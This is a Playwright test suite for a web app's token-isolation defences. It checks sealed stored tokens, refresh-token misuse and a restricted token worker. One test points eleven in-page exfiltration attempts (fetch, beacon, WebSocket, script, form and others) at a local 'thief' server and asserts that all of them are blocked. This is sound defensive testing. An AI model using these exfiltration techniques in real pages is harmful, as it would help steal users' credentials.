import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Frame, Page } from '@playwright/test'
import { goTo } from '../actions/go-to'
import { findNoted, hookBuiltIns } from '../browser/hook-built-ins'
import { recordIssuedTokens } from '../browser/issued-tokens'
import { openStoredTokens } from '../browser/open-stored-tokens'
import { sectionOf, wordsOf } from '../remotes/sections'
import { expect, signInAs, test } from '../test'

// The code of a remote runs as a script of the page: each attempt here is one of its scripts. docs/threats.md says what
// remains possible.

const home = (page: Page) => page.getByText('صندوق‌های برتر').first()

/**
 * A frame of its own has Trusted Types of its own, where the shell's policy is not there yet. A worker that is started in
 * the moment in which its frame is made is sometimes blocked by Chromium: its browser does not know yet whose frame it is.
 */
async function openFrame(page: Page): Promise<Frame> {
  const element = await page.evaluateHandle(() => document.body.appendChild(document.createElement('iframe')))
  const frame = await element.contentFrame()
  if (!frame) throw new TypeError('An iframe has no frame')
  return frame
}

test('T6 hooks that stand before the shell starts see no token through sign-in, calls and a renewal', async ({
  page,
  context,
  platform,
  sandbox,
  watch,
}) => {
  watch.expectComplaints(/status of 401/)
  await context.addInitScript(hookBuiltIns)
  const tokens = recordIssuedTokens(context, platform)
  const person = await sandbox.newPerson('investor')
  await signInAs(page, sandbox, person)
  await expect(home(page)).toBeVisible()
  await sandbox.control('expire-tokens', { sub: person.sub })
  await goTo(page, '/card')
  await expect(wordsOf(page, sectionOf('bank'))).toBeVisible()
  // An access token, a refresh token and an ID token of the sign-in, and of the renewal; its ID token may be the same.
  await expect.poll(() => tokens.size).toBeGreaterThanOrEqual(5)
  const { found, noted } = await page.evaluate(findNoted, [...tokens, 'v1.', 'top-funds'])
  expect(noted).toBeGreaterThan(100)
  expect(found).toEqual(['v1.'])
})

test('T6 T13 what a remote opens of the stored tokens is sealed, and of use neither there nor elsewhere', async ({
  page,
  context,
  platform,
  request,
  signIn,
  watch,
}) => {
  watch.expectComplaints(/status of (400|401|403)/)
  const tokens = recordIssuedTokens(context, platform)
  await signIn('investor')
  await expect(home(page)).toBeVisible()
  await expect.poll(() => tokens.size).toBe(3)
  const { sub, access = '', refresh = '', id } = await page.evaluate(openStoredTokens)
  expect(sub).toMatch(/^[\da-f-]{36}$/)
  for (const sealed of [access, refresh, id]) expect(sealed).toMatch(/^v1\./)
  expect([...tokens].filter((token) => [access, refresh, id].includes(token))).toEqual([])

  const { api, identity } = platform.sandbox
  const elsewhere = [
    await request.get(`${api}/onboarding/api/v1/profile/`, { headers: { Authorization: `Bearer ${access}` } }),
    await request.post(`${identity}/token`, {
      form: { grant_type: 'refresh_token', client_id: 'sarv-web', refresh_token: refresh },
    }),
  ]
  expect(elsewhere.map((answer) => answer.status())).toEqual([401, 400])
  // Only a worker that starts gets the key, and it is kept where no script can read it.
  const asked = await page.evaluate(async () => {
    const answer = await fetch('/workers/tokens.js', { cache: 'force-cache' })
    return [answer.status, await answer.text(), document.cookie]
  })
  expect(asked).toEqual([403, '', expect.not.stringContaining('sarv-tokens')])
  const cookies = await context.cookies(`${platform.origin}/workers/tokens.js`)
  const key = cookies.find(({ name }) => name === 'sarv-tokens')
  expect(key).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/workers/tokens.js' })
})

test('T6 a token worker that a remote starts itself gives it no token, and calls no one of its choice', async ({
  page,
  context,
  platform,
  signIn,
  watch,
}) => {
  watch.expectComplaints(/policy: |report: |TrustedScriptURL/)
  const tokens = recordIssuedTokens(context, platform)
  await signIn('investor')
  await expect(home(page)).toBeVisible()
  const stored = await page.evaluate(openStoredTokens)
  const { origin } = platform
  const frame = await openFrame(page)
  const answers = await frame.evaluate(
    async ({ sealed, origin }) => {
      const policies = Reflect.get(window, 'trustedTypes') as {
        createPolicy(name: string, rules: object): { createScriptURL(address: string): string }
      }
      const policy = policies.createPolicy('sarv', { createScriptURL: (address: string) => address })
      const worker = new Worker(policy.createScriptURL(`${origin}/workers/tokens.js`))
      const failed = new Promise<unknown>((resolve) => {
        worker.onerror = () => resolve('not started')
      })
      const [calls, host, sent] = [new MessageChannel(), new MessageChannel(), new MessageChannel()]
      const reply = (port: MessagePort) =>
        Promise.race([
          failed,
          new Promise<unknown>((resolve) => {
            port.onmessage = ({ data }) => resolve(data)
          }),
        ])
      worker.postMessage({ kind: 'identity' }, [calls.port2, host.port2])
      const renewed = reply(calls.port1)
      calls.port1.postMessage({ id: 1, method: 'renew', args: [sealed] })
      const answers = [await renewed]
      const headers = { Authorization: `Bearer ${sealed.access}` }
      const refused = reply(sent.port1)
      worker.postMessage({ kind: 'send', request: { url: `${origin}/home`, method: 'GET', headers } }, [sent.port2])
      return [...answers, await refused]
    },
    { sealed: stored, origin },
  )
  // It may renew, as the shell may, and gets what the shell gets.
  expect(answers).toEqual([
    { id: 1, result: expect.objectContaining({ sub: stored.sub, access: expect.stringMatching(/^v1\./) }) },
    { kind: 'failed', message: 'That is not the API' },
  ])
  const told = JSON.stringify(answers)
  // Within one second an ID token is the same as before.
  await expect.poll(() => tokens.size).toBeGreaterThanOrEqual(5)
  expect([...tokens].filter((token) => told.includes(token))).toEqual([])
})

test('T6 a remote sends nothing out of the page but by leaving it', async ({ page, signIn, watch }) => {
  watch.expectComplaints(
    /policy: |report: |Content Security Policy|TrustedScript|Trusted|ERR_BLOCKED|Failed to|violat/i,
  )
  const arrived: string[] = []
  const thief = createServer(({ url = '' }, response) => {
    arrived.push(url)
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end()
  })
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve))
  const origin = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`
  await signIn('investor')
  await expect(home(page)).toBeVisible()
  const outcomes = await page.evaluate(async (thiefs) => {
    const loaded = (element: HTMLElement, address: string) =>
      new Promise<string>((resolve) => {
        element.onload = () => resolve('loaded')
        element.onerror = () => resolve('blocked')
        Reflect.set(element, 'src' in element ? 'src' : 'href', address)
        document.body.append(element)
      })
    const attempts: Record<string, () => Promise<unknown>> = {
      fetch: () => fetch(`${thiefs}/fetch`),
      beacon: async () => navigator.sendBeacon(`${thiefs}/beacon`, 'x'),
      socket: () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(`${thiefs.replace('http', 'ws')}/socket`)
          socket.onopen = resolve
          socket.onerror = () => reject(new Error('blocked'))
        }),
      events: () =>
        new Promise((resolve, reject) => {
          const source = new EventSource(`${thiefs}/events`)
          source.onopen = resolve
          source.onerror = () => reject(new Error('blocked'))
        }),
      picture: () => loaded(document.createElement('img'), `${thiefs}/picture`),
      media: () => loaded(document.createElement('video'), `${thiefs}/media`),
      style: () => loaded(Object.assign(document.createElement('link'), { rel: 'stylesheet' }), `${thiefs}/style`),
      script: () => loaded(document.createElement('script'), `${thiefs}/script`),
      import: () => import(/* @vite-ignore */ `${thiefs}/import`),
      worker: async () => new Worker(`${thiefs}/worker`),
      form: async () => {
        const form = Object.assign(document.createElement('form'), { action: `${thiefs}/form`, method: 'POST' })
        document.body.append(form)
        form.submit()
      },
    }
    const outcomes: Record<string, string> = {}
    for (const [name, attempt] of Object.entries(attempts))
      outcomes[name] = await attempt().then(
        (result) => String(result),
        () => 'blocked',
      )
    return outcomes
  }, origin)
  expect(Object.keys(outcomes)).toHaveLength(11)
  expect([...new Set(Object.values(outcomes))].filter((outcome) => outcome === 'loaded')).toEqual([])
  // The one documented way: no policy of a page stops it from being left.
  await page.evaluate((address) => location.assign(address), `${origin}/left`)
  await expect.poll(() => arrived).toContain('/left')
  expect(arrived.filter((url) => url !== '/left' && url !== '/favicon.ico')).toEqual([])
  await new Promise((resolve) => {
    thief.close(resolve)
    thief.closeAllConnections()
  })
})
